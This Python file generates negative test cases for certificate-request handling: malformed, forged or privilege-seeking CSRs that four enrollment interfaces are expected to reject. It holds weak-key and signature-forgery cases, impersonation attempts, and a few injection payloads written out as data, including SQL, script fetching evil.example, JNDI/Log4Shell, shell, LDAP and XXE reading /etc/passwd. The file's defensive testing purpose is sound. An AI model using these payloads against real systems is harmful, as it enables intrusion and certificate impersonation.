"""PKCS#10 requests (RFC 2986) that no front may fulfil. All ask as alice, by whatever way each front knows her."""

import base64
import gzip

from der import (
    NULL, bits, boolean, explicit, ia5, implicit, integer, nested, octets, oid, sequence, set_of, utf8, value,
)  # fmt: skip
from keys import (
    BRAINPOOL, P192, P224, P256, SECP256K1, Ed25519, Elliptic, Mute, Rsa, next_prime, prime, roca_prime, spki,
)  # fmt: skip

CN, MAIL, UID, SERIAL = "2.5.4.3", "1.2.840.113549.1.9.1", "0.9.2342.19200300.100.1.1", "2.5.4.5"
EXTENSION_REQUEST = "1.2.840.113549.1.9.14"
BASIC, USAGE, SAN, CONSTRAINTS, EKU = "2.5.29.19", "2.5.29.15", "2.5.29.17", "2.5.29.30", "2.5.29.37"

# What each front says to the kinds of faults: EST, our own API, CMP, ACME.
FORM = ("400", "400", "badDataFormat", "badCSR")
KEY = ("400", "400", "badCertTemplate", "badCSR")
WEAK = ("400", "400", "badAlg", "badCSR")
UNPROVEN = ("400", "400", "badPOP", "badCSR")
RIGHTS = ("400", "400", "badCertTemplate", "badCSR")
MANY = ("400", "400", "badCertTemplate", "badCSR")
CRITICAL = ("400", "400", "unacceptedExtension", "badCSR")
FOREIGN = ("400", "409", "badCertTemplate", "badCSR")

ALICE = Ed25519("alice")
ENTRIES = []


def rdn(*attributes):
    return set_of(*(sequence(oid(kind), text) for kind, text in attributes))


def name(*texts):
    return sequence(*(rdn((CN, utf8(text))) for text in texts))


def extension(kind, content, critical=False):
    return sequence(oid(kind), boolean(True) if critical else b"", octets(content))


def attribute(*extensions):
    return sequence(oid(EXTENSION_REQUEST), set_of(sequence(*extensions)))


def info(subject=None, key=ALICE, attributes=(), version=0):
    return sequence(integer(version), name("alice") if subject is None else subject, key.spki, explicit(0, *attributes))


def request(subject=None, *extensions, key=ALICE, attributes=None, version=0):
    if attributes is None:
        attributes = [attribute(*extensions)] if extensions else []
    signed = info(subject, key, attributes, version)
    return sequence(signed, key.algorithm, bits(key.sign(signed)))


def names(*general):
    return request(None, extension(SAN, sequence(*general)))


def dns(text):
    return implicit(2, text.encode())


def other(kind, inner):
    return value(0xA0, oid(kind), explicit(0, inner))


def pem(der, label="CERTIFICATE REQUEST"):
    text = base64.encodebytes(der).decode()
    return f"-----BEGIN {label}-----\n{text}-----END {label}-----\n".encode()


def add(verdict, file, sentence, content):
    ENTRIES.append((f"csr/{file}", sentence, verdict, content))


# --- keys: weak, off their curves, of other kinds -----------------------------------------------------------------

P, Q = prime(1024, "p"), prime(1024, "q")
for file, sentence, key in [
    ("rsa-512", "RSA of 512 bits", Rsa([prime(256, "p"), prime(256, "q")])),
    ("rsa-1024", "RSA of 1024 bits", Rsa([prime(512, "p"), prime(512, "q")])),
    ("rsa-2040", "RSA of eight bits too few", Rsa([prime(1020, "p"), prime(1020, "q")])),
    ("rsa-4103", "RSA of seven bits too many", Rsa([prime(513, str(n)) for n in range(8)])),
    ("rsa-16384", "RSA of 16,384 bits, which takes long to verify", Rsa([prime(512, str(n)) for n in range(32)])),
    ("rsa-exponent-1", "RSA with exponent 1: anybody signs", Rsa([P, Q], 1)),
    ("rsa-exponent-3", "RSA with exponent 3", Rsa([next_prime(P | 2, 6), next_prime(Q | 2, 6)], 3)),
    ("rsa-exponent-65539", "RSA with an exponent near the usual one", Rsa([P, Q], 65539)),
    ("rsa-exponent-long", "RSA with an exponent of 512 bits", Rsa([P, Q], next_prime(1 << 511 | 7))),
    ("rsa-small-factor", "RSA whose modulus 3 divides", Rsa([3, P, Q])),
    ("rsa-small-factor-751", "RSA whose modulus 751 divides", Rsa([751, P, Q])),
    ("rsa-even", "RSA with an even modulus", Rsa([2, P, Q])),
    ("rsa-square", "RSA whose two primes are one", Rsa([P, P])),
    ("rsa-close-primes", "RSA whose primes are neighbours (CVE-2022-26320)", Rsa([P, next_prime(P + 2)])),
    ("rsa-roca", "RSA as a chip made it that kept too little secret (CVE-2017-15361)",
     Rsa([roca_prime(1024, "p"), roca_prime(1024, "q")])),
    ("rsa-negative", "RSA with a negative modulus",
     Rsa([P, Q], numbers=sequence(value(2, (P * Q).to_bytes(256, "big")), integer(65537)))),
    ("rsa-zero", "RSA with the modulus 0", Rsa([P, Q], numbers=sequence(integer(0), integer(65537)))),
    ("rsa-without-null", "RSA in another spelling, which would give one key two fingerprints", Rsa([P, Q], parameters=b"")),
    ("rsa-padded-modulus", "RSA whose modulus begins with two zero octets",
     Rsa([P, Q], numbers=sequence(value(2, b"\0\0", (P * Q).to_bytes(256, "big")), integer(65537)))),
    ("rsa-pss-only", "a key for RSASSA-PSS alone", Rsa([P, Q], parameters=b"", kind="1.2.840.113549.1.1.10")),
    ("p192", "the curve P-192", Elliptic(P192)),
    ("p224", "the curve P-224", Elliptic(P224)),
    ("secp256k1", "the curve secp256k1", Elliptic(SECP256K1)),
    ("brainpool", "the curve brainpoolP256r1", Elliptic(BRAINPOOL)),
    ("explicit-curve", "P-256 with its parameters spelled out", Elliptic(P256, P256.explicit())),
    ("curveball", "P-256 spelled out with a generator of one's own (CVE-2020-0601)",
     Elliptic(P256, P256.explicit(P256.times(7)))),
    ("infinity", "the point at infinity", Mute(spki(P256.named(), b"\0"))),
    ("off-curve", "a point beside the curve", Elliptic(P256, encode=lambda at: P256.point((at[0], at[1] ^ 1)))),
    ("other-curve", "a point of P-224 under the name of P-256", Mute(spki(P256.named(), P224.point(P224.times(7))))),
    ("compressed", "a compressed point",
     Elliptic(P256, encode=lambda at: bytes([2 | at[1] & 1]) + P256.octets(at[0]))),
    ("hybrid", "a point in hybrid form",
     Elliptic(P256, encode=lambda at: bytes([6 | at[1] & 1]) + P256.point(at)[1:])),
    ("wide-coordinate", "a coordinate that is as large as the field", Mute(spki(P256.named(), P256.point((P256.p, 1))))),
    ("origin", "the point 0, 0", Mute(spki(P256.named(), P256.point((0, 0))))),
    ("short-point", "a point of one octet too few", Elliptic(P256, encode=lambda at: P256.point(at)[:-1])),
    ("no-curve", "an elliptic key that names no curve", Elliptic(P256, sequence(oid("1.2.840.10045.2.1")))),
    ("null-curve", "an elliptic key with NULL for a curve", Elliptic(P256, sequence(oid("1.2.840.10045.2.1"), NULL))),
    ("ed25519-identity", "the neutral point of Ed25519: one signature fits every message",
     Mute(spki(Ed25519.algorithm, b"\1" + bytes(31)), b"\1" + bytes(63))),
    ("ed25519-order-2", "a point of Ed25519 of order 2",
     Mute(spki(Ed25519.algorithm, b"\xec" + b"\xff" * 30 + b"\x7f"), b"\1" + bytes(63))),
    ("ed25519-order-4", "a point of Ed25519 of order 4", Mute(spki(Ed25519.algorithm, bytes(32)), b"\1" + bytes(63))),
    ("ed25519-31", "Ed25519 of 31 octets", Mute(spki(Ed25519.algorithm, bytes(range(31))))),
    ("ed25519-null", "Ed25519 with NULL parameters", Mute(spki(sequence(oid("1.3.101.112"), NULL), ALICE.public))),
    ("ed25519-unused-bit", "Ed25519 in a BIT STRING with an unused bit", Mute(spki(Ed25519.algorithm, ALICE.public, 1))),
    ("ed448", "Ed448", Mute(spki(sequence(oid("1.3.101.113")), bytes(range(57))), bytes(114))),
    ("x25519", "X25519, which signs nothing", Mute(spki(sequence(oid("1.3.101.110")), ALICE.public))),
    ("dsa", "DSA",
     Mute(spki(sequence(oid("1.2.840.10040.4.1"), sequence(integer(P), integer(Q), integer(2))), integer(P // 3)))),
    ("diffie-hellman", "a Diffie-Hellman key",
     Mute(spki(sequence(oid("1.2.840.113549.1.3.1"), sequence(integer(P), integer(2))), integer(P // 3)))),
    ("ml-dsa", "a key of an algorithm that is too new", Mute(spki(sequence(oid("2.16.840.1.101.3.4.3.17")), bytes(1312)))),
    ("unknown-kind", "a key of no known algorithm", Mute(spki(sequence(oid("1.2.3.4")), b"key"))),
    ("no-key", "an empty key", Mute(spki(Ed25519.algorithm, b""))),
]:  # fmt: skip
    add(KEY, f"{file}.der", sentence, request(key=key))

TAKEN = ("400", "409", "badCertTemplate", "badCSR")
add(TAKEN, "key-of-bob.der", "a key that stands in bob's certificate", request(key=Ed25519("bob")))
add(TAKEN, "key-given-up.der", "a key that stood in a certificate of alice's that was revoked", request(key=Ed25519("lost")))

# --- proofs of possession ------------------------------------------------------------------------------------------

SOUND = info()
SIGNATURE = ALICE.sign(SOUND)


def proven(signature, algorithm=ALICE.algorithm, signed=SOUND, unused=0):
    return sequence(signed, algorithm, bits(signature, unused))


P256_KEY = Elliptic(P256)
for file, sentence, content in [
    ("other-bytes", "a signature over other bytes", proven(ALICE.sign(SOUND + b"\0"))),
    ("other-key", "a signature by another key", proven(Ed25519("mallory").sign(SOUND))),
    ("no-signature", "an empty signature", proven(b"")),
    ("cut-signature", "a signature without its last octet", proven(SIGNATURE[:-1])),
    ("long-signature", "a signature with an octet too many", proven(SIGNATURE + b"\0")),
    ("zero-signature", "a signature of nothing but zeros", proven(bytes(64))),
    ("malleable-signature", "a signature whose second half was raised by the order of the group",
     proven(SIGNATURE[:32] + (int.from_bytes(SIGNATURE[32:], "little") + Ed25519.L).to_bytes(32, "little"))),
    ("zero-numbers", "an ECDSA signature of the numbers 0 and 0",
     proven(sequence(integer(0), integer(0)), P256_KEY.algorithm, info(key=P256_KEY))),
    ("order-numbers", "an ECDSA signature of the order and the order",
     proven(sequence(integer(P256.order), integer(P256.order)), P256_KEY.algorithm, info(key=P256_KEY))),
    ("other-algorithm", "a signature that says it is RSA, by a key that is not",
     proven(SIGNATURE, sequence(oid("1.2.840.113549.1.1.11"), NULL))),
    ("mac-for-signature", "a MAC in the place of a signature", proven(bytes(32), sequence(oid("1.2.840.113549.2.9"), NULL))),
    ("changed-name", "a good signature, and another name afterwards", proven(SIGNATURE, signed=info(name("alicf")))),
]:  # fmt: skip
    add(UNPROVEN, f"{file}.der", sentence, content)
for file, sentence, key in [
    ("md5", "signed with MD5", Rsa([P, Q], hash_="md5")),
    ("sha1", "signed with SHA-1", Rsa([P, Q], hash_="sha1")),
    ("ecdsa-sha1", "signed with SHA-1 by an elliptic key", Elliptic(P256, hash_="sha1")),
]:
    add(WEAK, f"{file}.der", sentence, request(key=key))

# --- the subject ---------------------------------------------------------------------------------------------------

for file, sentence, text in [
    ("nul", "a NUL within the common name", "alice\0.evil.example"),
    ("line-break", "a line break within the common name", "alice\nCN=ceo"),
    ("escape", "a terminal's escape sequence in the common name", "alice\x1b[2K\x1b[1Gceo"),
    ("c1-control", "a control character of the upper half", "alice\x9bceo"),
    ("empty-name", "an empty common name", ""),
    ("long-name", "a common name of 10,000 letters", "a" * 10_000),
]:
    add(FORM, f"cn-{file}.der", sentence, request(name(text)))
for file, sentence, text in [
    ("bob", "somebody else", "bob"),
    ("upper-case", "the own name in other letters", "ALICE"),
    ("blank", "the own name and a blank", "alice "),
    ("homoglyph", "the own name with a Cyrillic letter", "\u0430lice"),
    ("full-width", "the own name in wide letters", "\uff41\uff4c\uff49\uff43\uff45"),
    ("combining", "the own name with an accent of its own", "alice\u0301"),
    ("zero-width", "the own name with an invisible letter", "ali\u200bce"),
    ("right-to-left", "a name that is shown from right to left", "alice\u202egpj.exe"),
    ("byte-order", "the own name after a byte order mark", "\ufeffalice"),
    ("path", "a path to elsewhere", "../../../../etc/passwd"),
    ("sql", "a piece of SQL", "alice'; DROP TABLE certificate; --"),
    ("html", "a piece of HTML", "<script>fetch('//evil.example')</script>"),
    ("ldap", "a piece of an LDAP filter", "alice)(|(uid=*"),
    ("shell", "a piece of a shell's language", "$(reboot)`reboot`"),
    ("format", "a format string", "%n%s%x{0}{{}}"),
    ("template", "a piece of a template", "{{ config }}${jndi:ldap://evil.example/a}"),
    ("authority", "the authority itself", "corp.example root CA"),
]:
    add(FOREIGN, f"cn-{file}.der", sentence, request(name(text)))
for verdict, file, sentence, subject in [
    (FOREIGN, "cn-two", "two common names, the first one's own", name("alice", "bob")),
    (FOREIGN, "cn-two-in-one", "two common names in one place", sequence(rdn((CN, utf8("alice")), (CN, utf8("bob"))))),
    (FOREIGN, "subject-mail", "somebody else's mail address in the subject",
     sequence(rdn((CN, utf8("alice"))), rdn((MAIL, ia5("bob@corp.example"))))),
    (FOREIGN, "subject-uid", "somebody else's user id in the subject",
     sequence(rdn((CN, utf8("alice"))), rdn((UID, utf8("bob"))))),
    (FOREIGN, "subject-serial", "a serial number in the subject",
     sequence(rdn((CN, utf8("alice"))), rdn((SERIAL, value(0x13, b"4711"))))),
    (FORM, "cn-utf16", "a common name in UTF-16 whose letters are cut in half", sequence(rdn((CN, value(0x1E, b"\0a\0"))))),
    (FORM, "cn-no-utf8", "a common name that is no UTF-8", sequence(rdn((CN, value(0x0C, b"alice\xc0\x80"))))),
    (FORM, "cn-octets", "a common name of octets", sequence(rdn((CN, octets(b"alice"))))),
    (FORM, "cn-number", "a common name that is a number", sequence(rdn((CN, integer(7))))),
    (MANY, "subject-500", "five hundred common names", name(*["alice"] * 500)),
]:  # fmt: skip
    add(verdict, f"{file}.der", sentence, request(subject))

# --- alternative names ---------------------------------------------------------------------------------------------

ROOT = "urn:uuid:00000000-0000-4000-8000-000000000001"
for verdict, file, sentence, general in [
    (FORM, "dns-nul", "a NUL within a host name", dns("alice.corp.example\0.evil.example")),
    (FORM, "dns-line-break", "a line break within a host name", dns("alice.corp.example\r\nX: y")),
    (FORM, "dns-empty", "an empty host name", dns("")),
    (FORM, "dns-long", "a host name of 10,000 letters", dns("a." * 5000)),
    (FOREIGN, "dns-wildcard", "a wildcard", dns("*.corp.example")),
    (FOREIGN, "dns-everything", "a wildcard for everything", dns("*")),
    (FOREIGN, "dns-domain", "the house's own domain", dns("corp.example")),
    (FOREIGN, "dns-localhost", "localhost", dns("localhost")),
    (FOREIGN, "dns-address", "an address as a host name", dns("127.0.0.1")),
    (FOREIGN, "dns-homograph", "a host that looks like another", dns("xn--crp-ucd.example")),
    (FOREIGN, "ip-loopback", "the address of everybody's own machine", implicit(7, bytes([127, 0, 0, 1]))),
    (FORM, "ip-5", "an address of five octets", implicit(7, bytes(5))),
    (FORM, "ip-network", "an address with a mask", implicit(7, bytes([10, 0, 0, 0, 255, 0, 0, 0]))),
    (FORM, "ip-empty", "an address of no octets", implicit(7, b"")),
    (FOREIGN, "ip-mapped", "an IPv4 address within IPv6", implicit(7, bytes(10) + b"\xff\xff\x7f\0\0\1")),
    (FOREIGN, "mail-bob", "somebody else's mail address", implicit(1, b"bob@corp.example")),
    (FOREIGN, "mail-case", "the own mail address in other letters", implicit(1, b"Alice@corp.example")),
    (FOREIGN, "mail-domain", "all mail addresses of a domain", implicit(1, b"corp.example")),
    (FOREIGN, "mail-two-ats", "a mail address with two domains", implicit(1, b"alice@evil.example@corp.example")),
    (FOREIGN, "mail-quoted", "a mail address with a comment", implicit(1, b"alice(ceo)@corp.example")),
    (FORM, "mail-header", "a mail address with a header behind it", implicit(1, b"alice@corp.example\r\nBcc: ceo")),
    (FORM, "mail-nul", "a NUL within a mail address", implicit(1, b"alice@corp.example\0@evil.example")),
    (FOREIGN, "uri-other", "the identifier of another account", implicit(6, ROOT.encode())),
    (FOREIGN, "uri-script", "a URI that is a script", implicit(6, b"javascript:alert(1)")),
    (FOREIGN, "uri-file", "a URI that is a file", implicit(6, b"file:///etc/shadow")),
    (FORM, "uri-nul", "a NUL within a URI", implicit(6, ROOT.encode() + b"\0")),
    (FOREIGN, "upn-bob", "somebody else's name for Windows", other("1.3.6.1.4.1.311.20.2.3", utf8("bob@corp.example"))),
    (FOREIGN, "upn-administrator", "the administrator's name for Windows",
     other("1.3.6.1.4.1.311.20.2.3", utf8("Administrator@corp.example"))),
    (FOREIGN, "kerberos", "a principal of Kerberos",
     other("1.3.6.1.5.2.2", sequence(explicit(0, value(0x1B, b"CORP.EXAMPLE"))))),
    (FOREIGN, "jabber", "an address for XMPP", other("1.3.6.1.5.5.7.8.5", utf8("bob@corp.example"))),
    (FOREIGN, "smtp-utf8", "somebody else's international mail address",
     other("1.3.6.1.5.5.7.8.9", utf8("b\u00f6b@corp.example"))),
    (FORM, "smtp-utf8-control", "a control character in an international mail address",
     other("1.3.6.1.5.5.7.8.9", utf8("al\u0007ice@corp.example"))),
    (FOREIGN, "device", "a device that was not granted", other("1.3.6.1.5.5.7.8.3", sequence(utf8("printer")))),
    (FOREIGN, "directory-name", "a whole distinguished name", value(0xA4, name("bob"))),
    (FOREIGN, "registered-id", "an object identifier as a name", implicit(8, oid("1.2.3.4")[2:])),
    (FOREIGN, "x400", "an address for X.400", value(0xA3, sequence())),
    (FOREIGN, "edi", "a party of EDI", value(0xA5, explicit(1, utf8("bob")))),
]:  # fmt: skip
    add(verdict, f"san-{file}.der", sentence, names(general))
add(MANY, "san-11.der", "eleven alternative names", names(*(dns(f"h{n}.corp.example") for n in range(11))))
add(MANY, "san-500.der", "five hundred alternative names", names(*(dns(f"h{n}.corp.example") for n in range(500))))
add(FORM, "san-no-list.der", "an alternative name without the list around it",
    request(None, extension(SAN, dns("alice"))))  # fmt: skip

# --- extensions ----------------------------------------------------------------------------------------------------

TRUE = sequence(boolean(True))
MINE = extension(SAN, sequence(implicit(1, b"alice@corp.example")))
for verdict, file, sentence, extensions in [
    (RIGHTS, "ca", "CA:TRUE", [extension(BASIC, TRUE, True)]),
    (RIGHTS, "ca-not-critical", "CA:TRUE, not critical", [extension(BASIC, TRUE)]),
    (RIGHTS, "ca-path", "CA:TRUE with a path of 99", [extension(BASIC, sequence(boolean(True), integer(99)), True)]),
    (RIGHTS, "cert-sign", "keyCertSign", [extension(USAGE, bits(b"\x04", 2), True)]),
    (RIGHTS, "crl-sign", "cRLSign", [extension(USAGE, bits(b"\x02", 1), True)]),
    (RIGHTS, "every-usage", "every key usage there is", [extension(USAGE, bits(b"\xff\x80", 7), True)]),
    (RIGHTS, "any-purpose", "every extended key usage there is", [extension(EKU, sequence(oid("2.5.29.37.0")))]),
    (RIGHTS, "ocsp-purpose", "OCSPSigning", [extension(EKU, sequence(oid("1.3.6.1.5.5.7.3.9")))]),
    (RIGHTS, "cmp-purpose", "cmcCA", [extension(EKU, sequence(oid("1.3.6.1.5.5.7.3.27")))]),
    (CRITICAL, "name-constraints", "critical name constraints",
     [extension(CONSTRAINTS, sequence(explicit(0, sequence(dns("evil.example")))), True)]),
    (CRITICAL, "policy-constraints", "critical policy constraints", [extension("2.5.29.36", sequence(implicit(0, b"\0")), True)]),
    (CRITICAL, "any-policy", "a critical inhibitAnyPolicy", [extension("2.5.29.54", integer(0), True)]),
    (CRITICAL, "poison", "the critical poison of Certificate Transparency", [extension("1.3.6.1.4.1.11129.2.4.3", NULL, True)]),
    (CRITICAL, "unknown-critical", "an unknown critical extension", [extension("1.2.3.4", NULL, True)]),
    (FORM, "twice-ca", "basicConstraints twice, FALSE first", [extension(BASIC, sequence()), extension(BASIC, sequence())]),
    (FORM, "twice-names", "alternative names twice, the first ones one's own", [MINE, MINE]),
    (FORM, "torn-extension", "an extension that ends too early", [extension(BASIC, b"\x30\x10\x01\x01\xff")]),
    (FORM, "usage-of-text", "a key usage that is a text", [extension(USAGE, utf8("all"))]),
]:  # fmt: skip
    add(verdict, f"ext-{file}.der", sentence, request(None, *extensions))
add(FORM, "ext-two-lists.der", "two lists of extensions, each with the same names", request(attributes=[attribute(MINE)] * 2))
add(RIGHTS, "ext-second-list.der", "CA:TRUE in a second list of extensions",
    request(attributes=[attribute(MINE), attribute(extension(BASIC, TRUE))]))  # fmt: skip
add(FORM, "ext-second-value.der", "CA:TRUE in a second value of one attribute",
    request(attributes=[sequence(oid(EXTENSION_REQUEST), set_of(sequence(MINE), sequence(extension(BASIC, TRUE))))]))  # fmt: skip

# --- forms ---------------------------------------------------------------------------------------------------------

GOOD = request()
OWN = sequence(integer(2), integer(7), ALICE.algorithm, name("alice"),
               sequence(value(0x17, b"260101000000Z"), value(0x17, b"360101000000Z")), name("alice"), ALICE.spki)  # fmt: skip
CERTIFICATE = sequence(OWN, ALICE.algorithm, bits(ALICE.sign(OWN)))
PRIVATE = sequence(integer(0), ALICE.algorithm, octets(octets(bytes(range(32)))))
for file, sentence, content in [
    ("empty", "nothing", b""),
    ("one-octet", "one octet", b"0"),
    ("empty-sequence", "an empty SEQUENCE", sequence()),
    ("zeros", "a kilobyte of zeros", bytes(1024)),
    ("trailing-octet.der", "an octet behind the end", GOOD + b"\0"),
    ("twice.der", "two requests, one behind the other", GOOD * 2),
    ("cut.der", "a request without its last octet", GOOD[:-1]),
    ("indefinite.ber", "an indefinite length (BER)", b"\x30\x80" + GOOD[2 + (GOOD[1] & 0x7F) * (GOOD[1] >> 7):] + b"\0\0"),
    ("long-length.ber", "a length in more octets than it needs",
     b"\x30\x83\0\0" + len(GOOD[3:]).to_bytes(1, "big") + GOOD[3:]),
    ("lying-length.der", "a length of four gigabytes", b"\x30\x84\xff\xff\xff\xff" + GOOD[3:]),
    ("wrapping-length.der", "a length that wraps around", b"\x30\x88" + b"\xff" * 8 + GOOD[3:]),
    ("short-length.der", "a length that leaves out the signature", b"\x30\x20" + GOOD[3:]),
    ("nested-1000.der", "a thousand SEQUENCEs within each other", nested(1000)),
    ("nested-sets.der", "a thousand SETs in the place of an attribute", request(attributes=[nested(1000, 0x31)])),
    ("nested-indefinite.ber", "four thousand indefinite lengths", b"\x30\x80" * 4000),
    ("version-1.der", "the version 1, which there is not", request(version=1)),
    ("version-long.der", "a version of 1,000 octets", request(version=1 << 7999)),
    ("no-attributes.der", "a request that ends before its attributes",
     sequence(sequence(integer(0), name("alice"), ALICE.spki), ALICE.algorithm, bits(bytes(64)))),
    ("set-for-sequence.der", "a SET in the place of the outer SEQUENCE", b"\x31" + GOOD[1:]),
    ("attribute-of-text.der", "a list of extensions that is a text",
     request(attributes=[sequence(oid(EXTENSION_REQUEST), set_of(utf8("all")))])),
    ("certificate.der", "a certificate in the place of a request", CERTIFICATE),
    ("certificate.pem", "a certificate in PEM", pem(CERTIFICATE, "CERTIFICATE")),
    ("private-key.der", "a private key in the place of a request", PRIVATE),
    ("private-key.pem", "a private key in PEM", pem(PRIVATE, "PRIVATE KEY")),
    ("request-and-key.pem", "a private key under the label of a request", pem(PRIVATE)),
    ("two-blocks.pem", "two requests in one PEM", pem(GOOD) * 2),
    ("torn.pem", "PEM without its end", pem(GOOD)[:-20]),
    ("no-base64.pem", "PEM whose content is no base64", pem(GOOD).replace(b"A", b"*")),
    ("other-label.pem", "PEM that ends under another label", pem(GOOD).replace(b"END CERTIFICATE", b"END DEVICE")),
    ("gzip.gz", "a request, compressed", gzip.compress(GOOD, mtime=0)),
    ("utf16.txt", "PEM in UTF-16", pem(GOOD).decode().encode("utf-16-le")),
    ("form.txt", "a form of a browser", b"csr=" + base64.b64encode(GOOD) + b"&submit=ok"),
    ("json.txt", "JSON", b'{"csr": "' + base64.b64encode(GOOD) + b'"}'),
    ("xml.txt", "XML with an entity of the file system",
     b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'),
    ("ssh.txt", "a public key of OpenSSH", b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI alice\n"),
    ("long.der", "a request of 17 kB", request(None, extension("1.2.3.4", bytes(17_000)))),
]:  # fmt: skip
    add(FORM, file if "." in file else f"{file}.bin", sentence, content)

add(UNPROVEN, "long-oid.der", "an object identifier of 8,000 octets, and a signature that was changed",
    request(None, sequence(value(6, b"\x2a" + b"\xff" * 8000 + b"\1"), octets(b"")))[:-1] + b"\0")  # fmt: skip

# What the test itself needs: a request that each front fulfils, and those by which keys are taken beforehand.
HELPERS = [
    ("helper/alice.der", GOOD),
    ("helper/alice-lost.der", request(key=Ed25519("lost"))),
    ("helper/bob.der", request(name("bob"), key=Ed25519("bob"))),
]
